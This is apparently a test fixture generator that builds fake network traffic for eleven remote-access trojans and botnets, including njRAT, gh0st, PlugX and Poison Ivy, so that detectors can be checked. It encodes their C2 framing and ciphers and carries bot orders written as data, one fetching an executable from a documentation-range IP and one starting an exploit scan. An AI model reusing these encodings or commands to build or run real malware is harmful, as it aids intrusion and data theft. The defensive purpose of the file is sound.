"""Builds a connection of a RAT from a description of its protocol, never from its code: rats.py FAMILY FILE

Always the same bytes. Hosts, users and settings are made up.
"""
import base64
import struct
import subprocess
import sys
import zlib

from segments import connection, write

IMPLANT, OPERATOR = True, False
PICTURE = bytes.fromhex("ffd8ffe000104a46494600010100000100010000") + bytes(range(256)) * 8 + bytes.fromhex("ffd9")
PORTS = (40000, 5552)


def b64(text):
    return base64.b64encode(text.encode()).decode()


def njrat():
    bar = "|'|'|"

    def said(*fields):
        body = bar.join(fields).encode() if not isinstance(fields[-1], bytes) else bar.join(fields[:-1]).encode() + bar.encode() + fields[-1]
        return b"%d\0" % len(body) + body

    login = ["ll", b64("Test_0A1B2C3D"), "VICTIM-PC", "alice", "26-09-21", "", "Win 10 Pro SP0 x64", "No", "im523", "..", b64("Inbox\0"), ""]
    settings = "\r\n".join(["Test", "c2.test:5552", "TEMP", "update.exe", "True", "False"])
    return [
        (0.1, IMPLANT, said(*login)),
        (0.2, IMPLANT, said("inf", b64(settings))),
        (0.3, OPERATOR, b"0\0"),
        (0.1, IMPLANT, b"0\0"),
        (5.0, IMPLANT, said("act", b64("Payroll.xlsx\0"))),
        (2.0, OPERATOR, said("CAP", "35", "23")),
        (0.2, IMPLANT, said("CAP", PICTURE)),
        (3.0, OPERATOR, said("proc")),
    ]


def strrat():
    def ping(window, idle):
        body = "|".join(["ping", "STRRAT", "0A1B", "VICTIM-PC", "alice", "Windows 10", "64-bit", "none", b64(window), "1.6", "US", "x", idle]).encode()
        return b"%d\r\n\r\n" % len(body) + body

    return [(0.1, IMPLANT, ping("Inbox", "0"))] + [(5.0, IMPLANT, ping("Payroll.xlsx", "%d" % n)) for n in range(3)]


def gh0st():
    def packed(plain, flag=b"Gh0st"):
        inside = zlib.compress(plain)
        return flag + struct.pack("<II", len(flag) + 8 + len(inside), len(plain)) + inside

    version = struct.pack("<IIIII", 0x9C, 6, 1, 7601, 2) + b"Service Pack 1".ljust(128, b"\0") + bytes(8)
    login = b"\x66\0\0\0" + version + b"VICTIM-PC".ljust(52, b"\0")
    return [
        (0.1, IMPLANT, packed(login)),
        (1.0, OPERATOR, packed(b"\x28")),
        (0.1, IMPLANT, packed(b"\x80")),
        (2.0, OPERATOR, packed(b"whoami\r\n")),
        (0.1, IMPLANT, packed(b"victim-pc\\alice\r\n")),
        (1.0, IMPLANT, packed(bytes(4 << 20))),  # a bomb
    ]


def meterpreter():
    def tlv(kind, value):
        return struct.pack(">II", 8 + len(value), kind) + value

    def packet(key, kind, tlvs, encrypted=0):
        plain = bytes(16) + struct.pack(">III", encrypted, len(tlvs) + 8, kind) + tlvs
        return key + bytes(octet ^ key[i % 4] for i, octet in enumerate(plain))

    string, uint, raw = 1 << 16, 1 << 17, 1 << 18
    request = tlv(string | 2, b"00000000000000000000000000000001\0")
    return [
        (0.1, OPERATOR, packet(b"\x11\x22\x33\x44", 0, tlv(string | 1, b"core_negotiate_tlv_encryption\0") + request + tlv(raw | 550, bytes(294)))),
        (0.2, IMPLANT, packet(b"\x5a\x01\xff\x80", 1, tlv(string | 1, b"core_negotiate_tlv_encryption\0") + request + tlv(raw | 553, bytes(256)) + tlv(uint | 4, bytes(4)))),
        (0.3, OPERATOR, packet(b"\x77\x22\x33\x44", 0, bytes(range(160)), 1)),
    ]


def remcos():
    def said(command, *fields):
        body = struct.pack("<I", command) + b"\x7c\x1e\x1e\x1f\x7c".join(field.encode() for field in fields)
        return b"\x24\x04\xff\x00" + struct.pack("<I", len(body)) + body

    return [(0.1, IMPLANT, said(0x4B, "Test", "VICTIM-PC/alice", "US", "Windows 10 Pro")), (5.0, OPERATOR, said(0x01)), (0.1, IMPLANT, said(0x01))]


def turkojan():
    return [
        (0.1, OPERATOR, b"ANABILGI|556\r\n"),
        (0.1, IMPLANT, b"ANABILGI|192.0.2.10|US|Test|NO|alice / VICTIM-PC|Windows XP|CPU|512|1.2|21.09.2026|\n"),
        (1.0, OPERATOR, b"BAGLIMI?\n"),
        (1.0, OPERATOR, b"CAPSCREEN60\n"),
        (0.1, IMPLANT, b"CAPSCREEN|C:\\screen.jpg|%d\n" % len(PICTURE) + PICTURE),
    ]


def ircbot():
    """rBot in a channel: login, a topic with an order, orders, answers; and a person who asks a harmless bot."""

    def server(text):
        return b":irc.test " + text.encode() + b"\r\n"

    def channel(by, text, place="#x"):
        return f":{by}!{by}@host.test PRIVMSG {place} :{text}\r\n".encode()

    def client(text):
        return text.encode() + b"\r\n"

    return [
        (0.1, IMPLANT, client("NICK [USA|XP|482211]") + client("USER kqzv 0 0 :kqzv")),
        (0.1, OPERATOR, server("001 [USA|XP|482211] :welcome") + server("422 [USA|XP|482211] :no motd")),
        (0.1, IMPLANT, client("JOIN #x key")),
        (0.1, OPERATOR, server("332 [USA|XP|482211] #x :.advscan asn1smb 100 5 0 -r -s")),
        (1.0, OPERATOR, channel("guest", "!seen alice")),
        (5.0, OPERATOR, channel("boss", ".download http://203.0.113.9/a.exe c:\\a.exe 1")),
        (1.0, IMPLANT, client("PRIVMSG #x :[DOWNLOAD]: Downloaded 12.0 KB to c:\\a.exe")),
        (5.0, OPERATOR, channel("boss", "!* UNKNOWN 203.0.113.80 60")),
        (1.0, OPERATOR, channel("boss", "well done")),
        (1.0, OPERATOR, channel("guest", "hello", "#other")),
    ]


def chisel():
    def frame(text, mask=b""):
        masked = bytes(octet ^ mask[i % 4] for i, octet in enumerate(text)) if mask else text
        return bytes([0x82, (0x80 if mask else 0) | len(text)]) + mask + masked

    asked = "GET / HTTP/1.1\r\nHost: c2.test:5552\r\nUser-Agent: Go-http-client/1.1\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: chisel-v3\r\nSec-WebSocket-Version: 13\r\nUpgrade: websocket\r\n\r\n"
    granted = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\nSec-WebSocket-Protocol: chisel-v3\r\n\r\n"
    return [
        (0.1, IMPLANT, asked.encode()),
        (0.1, OPERATOR, granted.encode()),
        (0.1, IMPLANT, frame(b"SSH-2.0-chisel-v3-client\r\n", b"\1\2\3\4")),
        (0.1, OPERATOR, frame(b"SSH-2.0-chisel-v3-server\r\n")),
        (0.1, IMPLANT, frame(bytes(range(100)), b"\5\6\7\x08")),
    ]


def lznt1(plain):
    """One chunk, of octets as they are but for a run of one octet at its end, which becomes one pair."""
    body = bytearray()
    run = len(plain) - len(plain.rstrip(plain[-1:]))
    head = plain if run < 4 else plain[: len(plain) - run + 1]
    things = [bytes([octet]) for octet in head]
    if run >= 4:
        bits = 12
        span = len(head) - 1
        while span >= 16:
            bits, span = bits - 1, span >> 1
        things.append(struct.pack("<H", 0 << bits | run - 1 - 3))
    for i in range(0, len(things), 8):
        some = things[i : i + 8]
        body.append(sum(1 << n for n, thing in enumerate(some) if len(thing) == 2))
        body += b"".join(some)
    return struct.pack("<H", 0xB000 | len(body) - 1) + bytes(body)


def plugx():
    """The second key stream, but for one frame under the first."""

    def stream(key, octets, first=False):
        a = b = c = d = key
        out = bytearray()
        for octet in octets:
            a = (a + (a >> 3) + (-0x11111111 if first else 3)) & 0xFFFFFFFF
            b = (b + (b >> 5) + (-0x22222222 if first else 5)) & 0xFFFFFFFF
            c = (c + 0x44444444 - (c << 9) if first else -127 * c - 7) & 0xFFFFFFFF
            d = (d + 0x33333333 - (d << 7) if first else -511 * d - 9) & 0xFFFFFFFF
            out.append(octet ^ (a + b + c + d) & 0xFF)
        return bytes(out)

    def said(key, order, plain=b"", packed=True, goes_on=False, first=False):
        body = lznt1(plain) if packed and plain else plain
        flags = order | (0 if packed else 0x01000000) | (0x02000000 if goes_on else 0)
        head = bytes(4) + struct.pack("<IHHI", flags, len(body), len(plain), 0)
        sealed = stream(key, head + (body if goes_on else b""), first)
        return struct.pack("<I", key) + sealed[4:] + (b"" if goes_on else stream(key, body, first))

    def wide(text):
        return text.encode("utf-16-le") + bytes(8)

    return [
        (0.1, IMPLANT, said(0x1F2E3D4C, 0x1001, wide("VICTIM-PC") + wide("alice"))),
        (1.0, OPERATOR, said(0x00C0FFEE, 0x3001, wide("C:\\Users\\alice"))),
        (0.2, IMPLANT, said(0x7A6B5C4D, 0x3001, wide("Payroll.xlsx"), goes_on=True)),
        (1.0, OPERATOR, said(0x01020304, 0x7002)),
        (1.0, OPERATOR, said(0x05060708, 0x7003, "whoami\r\n".encode("utf-16-le"), packed=False)),
        (0.1, IMPLANT, said(0x090A0B0C, 0x7003, "victim-pc\\alice\r\n".encode("utf-16-le"), packed=False, first=True)),
        (9.0, IMPLANT, said(0x0D0E0F10, 0x1002)),
    ]


def camellia(key, octets):
    """Camellia-256 in single blocks, by openssl."""
    command = ["openssl", "enc", "-camellia-256-ecb", "-nopad", "-K", key.ljust(32, b"\0").hex()]
    return subprocess.run(command, input=octets, stdout=subprocess.PIPE, check=True).stdout


def poisonivy():
    key = b"blossom-hill"

    def chunk(number, errand, plain, packed=False):
        body = lznt1(plain) if packed else plain
        padded = body + bytes(-len(body) % 16)
        head = struct.pack("<IIIIIqI", number, errand, len(padded), len(body), len(plain), len(plain), 0)
        return camellia(key, head + padded)

    def pascal(text):
        return bytes([len(text)]) + text.encode()

    challenge = bytes(7 * i * i + 31 * i + 0x5D & 0xFF for i in range(256))
    host = bytes(4) + pascal("spring") + pascal("test") + bytes([192, 0, 2, 10]) + pascal("VICTIM-PC") + pascal("alice")
    code = bytes(0x90 for _ in range(64)) + bytes.fromhex("8be55dc3")
    return [
        (0.1, IMPLANT, challenge),
        (0.1, OPERATOR, camellia(key, challenge) + struct.pack("<I", 512) + bytes(i & 0xFF for i in range(512)) + struct.pack("<I", 232)),
        (0.1, OPERATOR, struct.pack("<I", 128) + bytes(128)),
        (0.2, IMPLANT, chunk(0x01, 1, host)),
        (3.0, OPERATOR, chunk(0x02, 2, code + b"C:\\Users\\alice\\")),
        (0.1, IMPLANT, chunk(0x02, 2, pascal("Payroll.xlsx") + bytes(64), packed=True)),
        (2.0, OPERATOR, chunk(0x19, 3, code)),
        (0.2, IMPLANT, chunk(0x19, 3, PICTURE[:700])),
        (1.0, IMPLANT, chunk(0x5B, 4, bytes(32) + struct.pack("<I", 5) + b"alice")),
        (9.0, IMPLANT, chunk(0x27, 5, b"")),
    ]


def netwire():
    def said(opcode, sealed=b""):
        return struct.pack("<IB", 1 + len(sealed), opcode) + sealed

    def noise(n, seed):
        return bytes((i * i + seed) * 151 >> 3 & 0xFF for i in range(n))

    return [
        (0.1, IMPLANT, said(0x99, noise(64, 3))),
        (0.1, OPERATOR, said(0x9B, noise(48, 5))),
        (0.1, IMPLANT, said(0x9B, noise(80, 7))),
        (5.0, OPERATOR, said(0x97)),
        (0.1, IMPLANT, said(0x97, noise(16, 9))),
        (2.0, OPERATOR, said(0xC9, noise(4, 11))),
        (0.2, IMPLANT, said(0xC9, noise(6, 13)) + said(0xCA, noise(900, 15)) + said(0xCB)),
        (1.0, OPERATOR, said(0x55)),
    ]


write(sys.argv[2], connection(PORTS, {"ircbot": ircbot, "chisel": chisel, "njrat": njrat, "strrat": strrat, "gh0st": gh0st, "meterpreter": meterpreter, "remcos": remcos, "turkojan": turkojan, "plugx": plugx, "poisonivy": poisonivy, "netwire": netwire}[sys.argv[1]]()))
